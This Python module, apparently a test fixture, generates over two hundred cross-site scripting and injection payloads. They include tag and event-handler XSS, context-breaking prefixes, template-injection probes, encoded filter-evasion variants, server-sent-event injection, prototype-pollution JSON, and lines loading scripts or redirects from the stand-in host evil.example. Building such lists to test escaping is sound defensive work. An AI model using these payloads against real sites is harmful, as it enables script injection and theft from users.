"""Texts that would act in a browser if a page took them for anything but text: over two hundred."""

from __future__ import annotations

from itertools import product

_RUN = "alert(1)"
_TAGS = (
    "<script>{run}</script>",
    "<script src=http://evil.example/x.js></script>",
    "<script type=module>{run}</script>",
    "<img src=x onerror={run}>",
    "<img src=http://evil.example/p.png>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{run}><text y=20>x</text></a></svg>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<a href=javascript:{run} autofocus>x</a>",
    "<details open ontoggle={run}>x</details>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}></audio>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}></select>",
    "<textarea autofocus onfocus={run}></textarea>",
    "<body onload={run}>",
    "<body onpageshow={run}>",
    "<marquee onstart={run}>x</marquee>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>*{{background:url(http://evil.example/b)}}</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<link rel=prefetch href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example/><button autofocus>x</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<dialog open onfocus={run}>x</dialog>",
    "<div style=background:url(http://evil.example/)>x</div>",
    "<p contenteditable onbeforeinput={run}>x</p>",
    "<object><param name=src value=http://evil.example/></object>",
    "<portal src=http://evil.example/ onload={run}></portal>",
)
_BEFORE = ("{}", '">{}', "'>{}", "</textarea>{}", "-->{}", "</script>{}")
_OTHERS = (
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
    '"-alert(1)-"',
    "';alert(1);//",
    "]]><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img/src=x/onerror=alert`1`>",
    "<svg/onload=&#97&#108&#101&#114&#116(1)>",
    "event: note\ndata: {}",
    'id: 999999\nevent: me\ndata: {"standing":"turned_away"}',
    '{"__proto__": {"isAdmin": true}}',
    "__proto__",
    "constructor",
    "O1",
)

PAYLOADS: tuple[str, ...] = (
    *(before.format(tag.format(run=_RUN)) for before, tag in product(_BEFORE, _TAGS)),
    *_OTHERS,
)
